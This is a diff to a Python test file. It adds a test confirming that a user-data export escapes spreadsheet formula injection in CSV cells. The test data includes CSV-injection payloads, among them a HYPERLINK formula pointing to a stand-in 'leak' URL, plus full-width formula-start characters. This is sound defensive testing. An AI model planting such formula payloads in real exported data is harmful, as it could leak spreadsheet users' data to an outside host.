@@ -7,6 +7,7 @@ passed in, so cooling-off times and token expiry are tested without waiting.
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import logging
@@ -543,6 +544,37 @@ def test_the_download_holds_the_profile_and_what_the_groups_hold(backend, sessio
     everything = "".join(files.values())
     assert "Zelda" not in everything and "Hidden" not in everything
     assert "bob@example.com" not in everything
+
+
+FORMULA_NAMES = ["=1+1", '=HYPERLINK("http://x.example/?leak","click")', "\uff0bSUM(1)", "'quoted"]
+
+
+def test_the_download_neutralises_formulas_in_every_csv_cell(backend, sessions):
+    ann = backend.sign_up("ann@example.com", PASSWORD, "@Ann")
+    with sessions() as session, session.begin():
+        group = _group(session, "-Group", [(ann.user_id, "owner")])
+        for name in FORMULA_NAMES:
+            session.add(Player(group_id=group.id, name=name, name_key=name.casefold()))
+        session.flush()
+        game = _game(session, group, ann.user_id)
+        game.notes = "\uff1d1+1"
+    with sessions() as session:
+        files = _unzip(export_user_data(session, ann.user_id))
+
+    cells = [
+        cell
+        for name, text in files.items()
+        if name.endswith(".csv")
+        for row in csv.reader(io.StringIO(text))
+        for cell in row
+    ]
+    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    assert not [cell for cell in cells if cell.startswith(starts)]
+    restored = {cell[1:] if cell.startswith("'") else cell for cell in cells}
+    assert {"@Ann", "\uff1d1+1", *FORMULA_NAMES} <= restored
+    assert "''quoted" in cells and "'=1+1" in cells
+    # The JSON files keep the names as they are: JSON is not run by spreadsheets.
+    assert json.loads(files["profile.json"])["display_name"] == "@Ann"
 
 
 def test_no_password_hash_or_token_reaches_a_log_or_the_download(backend, sessions, caplog):
